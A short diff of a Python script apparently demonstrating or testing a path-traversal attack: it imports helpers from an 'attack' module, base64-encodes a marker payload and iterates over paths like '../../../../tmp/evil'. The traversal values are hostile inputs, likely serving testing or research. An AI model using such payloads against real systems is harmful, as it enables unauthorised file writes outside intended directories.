@@ -8,8 +8,11 @@
 import base64
 import time
 
-from attack import frame, send
+from attack import frame, held, send
 
+held("about to be sent")
+# What was printed is read before what is forged.
+time.sleep(0.2)
 data = base64.b64encode(b"evil").decode()
 for path in (
     "../../../../tmp/evil",
